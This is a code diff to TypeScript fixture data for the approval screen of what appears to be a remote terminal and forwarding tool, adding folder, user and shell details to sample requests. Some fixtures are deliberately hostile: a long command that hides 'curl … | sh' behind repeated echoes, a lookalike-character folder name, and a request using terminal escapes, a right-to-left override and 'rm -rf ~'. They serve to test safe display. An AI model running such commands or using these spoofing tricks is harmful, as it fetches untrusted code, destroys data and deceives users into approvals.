@@ -17,6 +17,18 @@ const peer = (peerId: string, name: string): PeerView =>
   examplePeer({ peerId, name, shortId: peerId.slice(0, 7), pairedAt: NOW - 1000 * MINUTE, lastSeenAt: NOW - MINUTE });
 const PEERS = [peer(OFFICE_ID, 'office'), peer(SERVER_ID, 'build-server')];
 
+const SHELL_FACTS: ApprovalView['facts'] = [
+  { fact: 'folder', value: '/home/mira' },
+  { fact: 'user', value: 'mira' },
+  { fact: 'shell', value: '/bin/zsh' },
+  { fact: 'term', value: 'xterm-256color' },
+];
+const RUN_FACTS: ApprovalView['facts'] = [
+  { fact: 'folder', value: '/srv/build' },
+  { fact: 'user', value: 'mira' },
+  { fact: 'term', value: 'xterm-256color' },
+];
+
 function exampleApproval(given: Partial<ApprovalView>): ApprovalView {
   const now = Date.now();
   return {
@@ -26,6 +38,7 @@ function exampleApproval(given: Partial<ApprovalView>): ApprovalView {
     peerName: 'office',
     right: 'terminal',
     detail: 'open a terminal',
+    facts: SHELL_FACTS,
     requestedAt: now - 18_000,
     expiresAt: now + 102_000,
     state: 'pending',
@@ -40,25 +53,34 @@ const COMMAND = exampleApproval({
   peerId: SERVER_ID,
   peerName: 'build-server',
   detail: "run: rsync -a --delete /srv/build/out/ 'mira-laptop:/home/mira/build out/'",
+  facts: RUN_FACTS,
 });
 const PASSING = exampleApproval({
   id: 34,
   right: 'relay',
   detail: 'pass through this device to attic-nas',
+  facts: [{ fact: 'device', value: SERVER_ID }],
 });
 const TARGET = exampleApproval({
   id: 35,
   right: 'forward',
   detail: 'connect to db.office.lan:5432 (10.4.0.17)',
+  facts: [],
 });
 const LONG = exampleApproval({
   id: 33,
-  detail: `run: sh -c '${'echo harmless && '.repeat(80)}curl -s https://example.org/install | sh' … and 1200 more characters`,
+  detail: `run: sh -c '${'echo harmless && '.repeat(160)}curl -s https://example.org/install | sh'`,
+  facts: [
+    { fact: 'folder', value: `/srv/${'a-folder-with-a-long-name/'.repeat(16)}b\u0430ckup` },
+    { fact: 'user', value: 'root' },
+    { fact: 'term', value: 'xterm-256color' },
+  ],
 });
 const HOSTILE = exampleApproval({
   id: 34,
   peerName: '<b>office</b>\u202e (you asked for this)',
   detail: 'run: echo \ufffd[2J\ufffd]0;approved\ufffd; rm -rf ~ # \u202efo eruS',
+  facts: RUN_FACTS,
 });
 
 const outcome = (id: number, given: Partial<ApprovalView>): ApprovalView =>
@@ -74,10 +96,16 @@ const outcome = (id: number, given: Partial<ApprovalView>): ApprovalView =>
 
 const DECIDED: readonly ApprovalView[] = [
   outcome(30, { state: 'approved' }),
-  outcome(29, { state: 'denied', peerId: SERVER_ID, peerName: 'build-server', detail: COMMAND.detail }),
+  outcome(29, {
+    state: 'denied',
+    peerId: SERVER_ID,
+    peerName: 'build-server',
+    detail: COMMAND.detail,
+    facts: RUN_FACTS,
+  }),
   outcome(28, { state: 'expired' }),
   outcome(27, { state: 'withdrawn' }),
-  outcome(26, { state: 'ignored', peerName: 'somebody-else', detail: LONG.detail }),
+  outcome(26, { state: 'ignored', peerName: 'somebody-else', detail: LONG.detail, facts: LONG.facts }),
 ];
 
 const MANY_DECIDED = Array.from({ length: 120 }, (_, index) =>
